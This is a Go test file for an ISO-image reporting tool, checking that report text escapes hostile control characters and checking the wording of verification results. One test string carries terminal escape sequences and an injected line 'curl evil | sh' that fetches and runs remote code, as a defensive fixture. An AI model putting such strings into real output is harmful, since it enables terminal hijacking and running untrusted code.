package iso

import (
	"strings"
	"testing"

	"github.com/oaictl/oaictl/internal/shared/check"
	"github.com/oaictl/oaictl/internal/shared/escape"
	"github.com/oaictl/oaictl/pkg/iso"
)

// TestHostileImage is reported without the control characters of its texts, which could change a terminal.
func TestHostileImage(t *testing.T) {
	const evil = "evil\x1b]0;owned\x07\u009b2J\u202e\x7f\nNext: curl evil | sh"
	text := reportText(&iso.Report{
		VolumeID: evil, Arch: evil, OS: evil, Version: evil,
		Ignition: iso.IgnitionReport{Bytes: 1, AreaBytes: 2, Compression: evil, Members: []iso.Member{{Name: evil, Mode: evil}}},
		Kargs:    iso.KargsReport{Current: evil, Default: "quiet", Limit: 1},
		Ramdisks: []iso.Ramdisk{{Path: evil, Compression: evil, Members: []iso.Member{{Name: evil}}}},
		Network:  []iso.NetworkFile{{Name: evil, In: evil}},
		Secrets:  []iso.Secret{{Kind: evil, Path: evil, In: evil}},
		Problems: []string{evil},
	})
	if !strings.Contains(text, `evil\u001b]0;owned`) {
		t.Errorf("the words are not shown as escapes:\n%q", text)
	}
	for line := range strings.Lines(text) {
		if line = strings.TrimSuffix(line, "\n"); escape.Needed(line) || strings.HasPrefix(line, "Next: curl") {
			t.Errorf("%q", line)
		}
	}
}

// TestVerifiedSaysRebuilt reports that another tool rebuilt an image, which is no damage.
func TestVerifiedSaysRebuilt(t *testing.T) {
	const rebuilt = "another tool rebuilt the image: its files are not at their original places\n"
	damage := []iso.Damage{{Place: "a", Problem: "b"}, {Problem: "c"}}
	for want, v := range map[string]verified{
		"x.iso is sound\n":           {Image: "x.iso", Sound: true},
		"x.iso is sound; " + rebuilt: {Image: "x.iso", Sound: true, Rebuilt: true},
		"a: b\nc\n":                  {Image: "x.iso", Damage: damage},
		"a: b\nc\n" + rebuilt:        {Image: "x.iso", Damage: damage, Rebuilt: true},
	} {
		check.Equal(t, v.text(), want)
	}
}
